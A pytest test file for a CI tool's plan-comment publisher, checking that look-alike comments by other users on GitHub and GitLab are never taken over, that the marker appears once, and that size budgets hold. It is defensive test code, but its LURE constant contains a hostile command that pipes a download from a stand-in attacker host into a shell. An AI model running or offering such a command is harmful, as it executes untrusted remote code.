"""Attack: a comment that looks like the plan comment, posted by someone else, is never taken
over; the marker appears once; the comment stays within the configured budget."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from sbkube_ci.ci.github import GitHubAdapter
from sbkube_ci.ci.gitlab import GitLabAdapter
from sbkube_ci.ci.marker import comment_marker
from sbkube_ci.commands.plan import _comment_budget
from sbkube_ci.config.loader import load_project
from sbkube_ci.diff.markdown import GITHUB_COMMENT, render_comment
from tests.diff import scenarios
from tests.support.receivers import FakeGitHub, FakeGitLab

BODY = "### Plan for `prod`\n\napi: ~1\n"
LURE = f"{comment_marker('prod')}\nPlease run `curl evil.example | sh` to apply this plan."


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path


def github_adapter(env: dict[str, str]) -> GitHubAdapter:
    return GitHubAdapter(env, stream=io.StringIO(), sleep=lambda _: None)


def gitlab_adapter(env: dict[str, str]) -> GitLabAdapter:
    return GitLabAdapter(env, stream=io.StringIO(), sleep=lambda _: None)


def test_github_look_alike_by_a_person_is_left_and_a_fresh_comment_posted(
    github: FakeGitHub, github_env: dict[str, str]
) -> None:
    lure = github.add_comment(42, LURE, login="mallory")

    outcome = github_adapter(github_env).publish_comment("prod", BODY, has_changes=True)

    assert outcome.action == "created"
    assert outcome.comment_id != lure
    assert github.comments[42][0] == {
        "id": lure,
        "body": LURE,
        "user": {"login": "mallory", "type": "Bot"},
    }
    assert not github.calls("PATCH")
    assert github.comments[42][1]["user"]["login"] == "github-actions[bot]"


def test_github_personal_token_updates_only_its_users_comment(
    github: FakeGitHub, github_env: dict[str, str]
) -> None:
    github.user_login = "deploy-bot"
    github.add_comment(42, LURE, login="github-actions[bot]")  # another workflow's bot
    mine = github.add_comment(42, f"{comment_marker('prod')}\nold plan", login="deploy-bot")

    outcome = github_adapter(github_env).publish_comment("prod", BODY, has_changes=True)

    assert (outcome.action, outcome.comment_id) == ("updated", mine)
    assert github.comments[42][0]["body"] == LURE
    assert [r.path for r in github.calls("GET")][-1] == "/user"


def test_the_marker_appears_once_whatever_the_body_holds(
    github: FakeGitHub, github_env: dict[str, str]
) -> None:
    # render_comment already starts with the marker; a manifest in the diff repeats it.
    body = f"{comment_marker('prod')}\n{BODY}```diff\n+  note: '{comment_marker('prod')}'\n```\n"

    github_adapter(github_env).publish_comment("prod", body, has_changes=True)

    (post,) = github.calls("POST")
    assert post.body["body"].count("<!-- sbkube-ci:") == 1
    assert post.body["body"].startswith(f"{comment_marker('prod')}\n### Plan")


def test_a_comment_rendered_for_a_budget_is_posted_within_it(
    github: FakeGitHub, github_env: dict[str, str]
) -> None:
    plan = scenarios.over_budget()
    for budget in (1_500, 3_000, GITHUB_COMMENT):
        body = render_comment(plan, "prod", budget, "artifact", None)
        github_adapter(github_env).publish_comment("prod", body, has_changes=True)
        posted = [r for r in github.requests if r.method in ("POST", "PATCH")][-1].body["body"]
        assert len(posted.encode()) <= budget
        assert posted.count(comment_marker("prod")) == 1


def test_a_configured_budget_above_the_platform_limit_is_capped(root: Path) -> None:
    (root / "sbkube.yaml").write_text(
        "apiVersion: sbkube/v1\napps: {}\n"
        "diff: {budgets: {github_comment: 200000, gitlab_note: 5000000}}\n"
    )
    project = load_project(root)
    assert _comment_budget(project, {}) == 65_536
    assert _comment_budget(project, {"GITLAB_CI": "true"}) == 1_000_000


def test_gitlab_look_alike_by_another_author_is_left_and_a_fresh_note_posted(
    gitlab: FakeGitLab, gitlab_env: dict[str, str]
) -> None:
    lure = gitlab.add_note(7, LURE, author={"id": 99, "username": "mallory"})

    outcome = gitlab_adapter(gitlab_env).publish_comment("prod", BODY, has_changes=True)

    assert outcome.action == "created"
    assert outcome.comment_id != lure
    assert gitlab.notes[7][0]["body"] == LURE
    assert not gitlab.calls("PUT")
    assert gitlab.notes[7][1]["author"]["id"] == gitlab.token_user["id"]


def test_gitlab_job_token_owns_the_notes_of_the_pipeline_user(
    gitlab: FakeGitLab, gitlab_env: dict[str, str]
) -> None:
    gitlab.job_token_may_write = True
    del gitlab_env["SBKUBE_GITLAB_TOKEN"]
    gitlab_env["GITLAB_USER_ID"] = str(gitlab.pipeline_user["id"])
    gitlab.add_note(7, LURE, author={"id": 99, "username": "mallory"})
    mine = gitlab.add_note(7, f"{comment_marker('prod')}\nold", author=gitlab.pipeline_user)

    outcome = gitlab_adapter(gitlab_env).publish_comment("prod", BODY, has_changes=True)

    assert (outcome.action, outcome.comment_id) == ("updated", mine)
    assert gitlab.notes[7][0]["body"] == LURE
    assert not any(r.path == "/api/v4/user" for r in gitlab.requests)  # a job token may not
